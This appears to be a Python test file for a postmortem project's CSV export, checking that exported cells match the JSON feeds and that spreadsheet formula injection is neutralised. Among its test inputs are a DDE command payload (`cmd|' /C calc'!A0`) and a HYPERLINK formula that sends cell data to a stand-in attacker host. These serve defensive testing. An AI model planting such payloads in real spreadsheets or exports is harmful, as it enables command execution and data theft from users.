"""`api/*.csv` hold the same as the JSON documents, and no spreadsheet takes anything in them for a formula."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from postmortems.feeds.spreadsheets import harmless, restored, table

NAMES = ("incidents", "actions", "lessons", "factors", "services")
FORMULA = re.compile(r"[\s\"]*[=+\-@＝＋－＠]")


def rows(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator))


@pytest.mark.parametrize("name", NAMES)
def test_the_columns_and_values_are_those_of_the_document(feeds: dict[str, str], name: str) -> None:
    text = feeds[f"api/{name}.csv"]
    assert text.startswith("\ufeff")  # Excel reads it as UTF-8 only then
    assert text.endswith("\r\n")
    assert re.match(r"\ufeff[a-z_]+(,[a-z_]+)*\r\n", text)  # a mark after the byte order mark stops csv-parse
    head, *lines = rows(text)
    items = json.loads(feeds[f"api/{name}.json"])["items"]
    assert len(lines) == len(items)
    for line, item in zip(lines, items, strict=True):
        item.pop("extra", None)  # a map of keys of any shape is no cell
        assert head == list(item)
        told = [
            "; ".join(value) if isinstance(value, list)
            else "" if value is None
            else str(value).lower() if isinstance(value, bool)
            else str(value)
            for value in item.values()
        ]  # fmt: skip
        assert [restored(cell) for cell in line] == told


PIECES = st.sampled_from(
    ["=", "+", "-", "@", "\t", "\r", "\n", ";", ",", "'", '"', " ", "＝", "cmd|' /C calc'!A0", "x"]
)
TEXTS = st.lists(PIECES, max_size=8).map("".join) | st.text(st.characters(exclude_categories=["Cs"]), max_size=60)


@given(TEXTS)
@settings(max_examples=500)
@example('=HYPERLINK("https://evil.example/?"&A1)')
@example("harmless;=1+1")
@example("'=1")
@example("  \u200b=1")
def test_a_text_is_never_a_formula_and_can_be_restored(text: str) -> None:
    cell = harmless(text)
    assert restored(cell) == text
    assert not FORMULA.match(cell)
    assert not cell.startswith(("\t", "\r"))


@given(st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=4))
@settings(max_examples=1000)
def test_no_separator_that_a_spreadsheet_guesses_makes_a_formula(pairs: list[tuple[str, str]]) -> None:
    """Where a comma is the decimal sign, cells are parted at `;`: a text must not begin a cell of its own then."""
    text = table(("a", "b"), pairs)
    assert [tuple(map(restored, row)) for row in rows(text)[1:]] == pairs
    for separator in (",", ";", "\t"):
        assert [cell for row in rows(text, separator) for cell in row if FORMULA.match(cell)] == []


def test_ordinary_texts_stay_as_they_are() -> None:
    for text in ("An alert fires; nobody reads it", "5 - 3, or so", "it's = fine", "alex@example.org", "证书过期"):
        assert harmless(text) == text


def test_numbers_are_numbers() -> None:
    assert rows(table(("n", "is_open", "none", "list"), [(-5, True, None, ("=a", "b"))]))[1] == [
        "-5",
        "true",
        "",
        "'=a; b",
    ]


@pytest.mark.parametrize("sign", ["\n", ";", " ", ";\n=", "'"])
def test_a_long_run_of_signs_takes_no_longer_than_its_length(sign: str) -> None:
    """A record of a megabyte must not stop the build; a pattern that goes back over and over would take hours."""
    assert restored(harmless(sign * 500_000)) == sign * 500_000
